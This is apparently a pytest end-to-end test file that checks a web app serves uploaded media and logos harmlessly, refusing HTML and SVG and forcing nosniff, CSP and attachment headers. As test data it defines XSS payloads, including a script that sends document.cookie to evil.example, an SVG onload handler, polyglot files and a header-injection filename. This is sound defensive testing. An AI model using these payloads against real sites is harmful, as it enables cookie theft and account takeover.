"""Whatever is stored leaves as something that no browser runs: by every way out, whatever it is at the same time."""

import base64
from collections import defaultdict
from typing import Any

import httpx
import pytest
from tests.e2e.company import Company, House, until
from tests.e2e.test_media import received
from tests.e2e.walk import Things, routes, things_of
from tests.support.files import document, picture

from pytake_app.twin import SaidMedia

SCRIPT = b"<script>fetch('//evil.example/'+document.cookie)</script>"
SVG = b'<svg xmlns="http://www.w3.org/2000/svg" onload="alert(1)"/>'
POLYGLOTS = {
    "gif.gif": ("image/gif", picture(20, 20, "GIF") + b"/*" + SCRIPT),
    "jpeg.jpg": ("image/jpeg", picture(20, 20) + SCRIPT),
    "png.png": ("image/png", picture(20, 20, "PNG") + SVG),
    "pdf.pdf": ("application/pdf", document().replace(b"%PDF-1.7\n", b"%PDF-1.7\n" + SCRIPT + b"\n")),
    "text.txt": ("text/plain", b"a text, and then " + SCRIPT),
    "wide.txt": ("text/plain", b"\xff\xfe" + ("<html>" + SCRIPT.decode()).encode("utf-16-le")),
    "table.csv": ("text/csv", b"a;b\n" + SCRIPT),
    "data.json": ("application/json", b'{"a": "' + SCRIPT + b'"}'),
    "page.xml": ("application/xml", b'<?xml version="1.0"?><a xmlns:h="http://www.w3.org/1999/xhtml"><h:script/></a>'),
}
"""They are what they say, and something else too."""
PAGES = {
    "page.html": ("text/html", b"<!doctype html>" + SCRIPT),
    "page.txt": ("text/plain", b"<!doctype html>" + SCRIPT),
    "page.jpg": ("image/jpeg", b"<html>" + SCRIPT),
    "marked.txt": ("text/plain", b"\xef\xbb\xbf  <html>" + SCRIPT),
    "drawn.svg": ("image/svg+xml", SVG),
    "drawn.png": ("image/png", SVG),
    "drawn.xml": ("application/xml", b'<?xml version="1.0"?>' + SVG),
    "page.xhtml": ("application/xhtml+xml", b'<?xml version="1.0"?><html xmlns="http://www.w3.org/1999/xhtml"/>'),
}
RUNS = ("html", "svg", "xml", "javascript", "ecmascript", "pdf", "multipart")
"""What a browser runs, or hands to something that does, if it is shown in place."""
OURS = ("/api-docs", "/observability/metrics", "/api/v1/whatsapp/webhook", "/auth/oidc/callback", "/.well-known/")
"""Texts that are ours alone."""


def assert_harmless(answer: httpx.Response) -> None:
    kind = answer.headers["content-type"].partition(";")[0]
    shown = answer.headers.get("content-disposition", "inline").partition(";")[0] == "inline"
    assert answer.headers["x-content-type-options"] == "nosniff"
    assert "default-src 'none'" in answer.headers["content-security-policy"]
    if shown:
        assert kind.startswith(("image/", "audio/", "video/")), kind
        assert not any(word in kind for word in RUNS), kind
        assert "sandbox" in answer.headers["content-security-policy"]


@pytest.mark.parametrize("name", POLYGLOTS)
async def test_what_is_two_things_leaves_as_the_harmless_one(company: Company, name: str) -> None:
    mime_type, content = POLYGLOTS[name]
    stored = await company.upload(content, name, mime_type)
    link = await company.link(stored["id"])
    path = link[link.index("/api/v1/media/") :]
    for asked in ({}, {"Range": f"bytes={content.index(b'<') if b'<' in content else 0}-"}):
        for answer in (
            await company.call("GET", f"whatsapp/media/{stored['id']}", headers=asked),
            await company.house.http.get(path, headers=asked),
        ):
            assert answer.status_code in (200, 206), answer.text
            assert answer.headers["content-type"].partition(";")[0] == mime_type
            assert_harmless(answer)
    small = await company.call("GET", f"whatsapp/media/{stored['id']}", params={"variant": "thumbnail"})
    if small.status_code == 200:
        assert small.headers["content-type"] == "image/jpeg"
        assert b"<s" not in small.content
        assert_harmless(small)


@pytest.mark.parametrize("name", PAGES)
async def test_pages_and_drawings_are_refused_whatever_they_are_called(company: Company, name: str) -> None:
    mime_type, content = PAGES[name]
    answer = await company.call("POST", "whatsapp/media", files={"file": (name, content, mime_type)})
    assert answer.status_code == 422, answer.text
    assert answer.json()["error"]["code"] == "MEDIA_REFUSED"


async def test_what_a_customer_sends_is_held_to_the_same(company: Company) -> None:
    customer = company.customer()
    for mime_type, content in (("image/png", SVG), ("application/pdf", b"<html>" + SCRIPT)):
        said = SaidMedia(type="document", mime_type=mime_type, content=content, filename="a.png")
        message = await received(company, customer, said)
        assert message["content"]["missing"], message["content"]
    gif = SaidMedia(
        type="document", mime_type="application/pdf", content=POLYGLOTS["pdf.pdf"][1], filename='a"\r\nX: 1.pdf'
    )
    kept = (await received(company, customer, gif))["content"]
    answer = await company.call("GET", f"whatsapp/media/{kept['media_id']}")
    assert_harmless(answer)
    assert answer.headers["content-disposition"].startswith("attachment")
    assert "x" not in answer.headers


async def test_a_logo_is_a_picture_and_nothing_else(house: House) -> None:
    company = await house.company()
    mark = "UPDATE users SET platform_admin = true WHERE email = $1"
    await (await house.admin()).execute(mark, company.email)

    async def may() -> bool:
        return (await company.call("GET", "tenants")).status_code == 200

    await until(may)
    place = f"tenants/{company.tenant_id}"
    for content in (SVG, b"<html>" + SCRIPT, picture(8, 8, "GIF"), document()):
        looks = {"logo": base64.b64encode(content).decode()}
        answer = await company.call("PUT", place, json={"branding": looks})
        assert answer.status_code == 422, answer.text
        assert answer.json()["error"]["details"][0]["code"] == "not_a_logo"
    domain = f"p-{str(company.tenant_id)[-8:]}.example"
    looks = {"logo": base64.b64encode(picture(8, 8, "PNG") + SVG).decode(), "domain": domain}
    answer = await company.call("PUT", place, json={"branding": looks})
    assert answer.status_code == 200, answer.text
    logo = await house.http.get("/api/v1/branding/logo", headers={"Host": domain})
    assert logo.headers["content-type"] == "image/png"
    assert_harmless(logo)


@pytest.fixture
async def things(company: Company) -> Things:
    return await things_of(company)


async def test_every_file_that_leaves_is_taken_down_not_opened(company: Company, things: Things) -> None:
    taken = set()
    for route in routes():
        if route.method != "GET" or any(own in route.path for own in OURS):
            continue
        needed: dict[str, Any] = {q["name"]: "1" for q in route.queries if q.get("required")}
        answer = await company.call("GET", route.path.format_map(defaultdict(lambda: "x", things.ids())), params=needed)
        kind = answer.headers.get("content-type", "").partition(";")[0]
        if answer.status_code != 200 or kind == "application/json":
            continue
        taken.add(route.path)
        assert_harmless(answer)
    assert "/api/v1/contacts/export" in taken
    assert len(taken) >= 3, taken
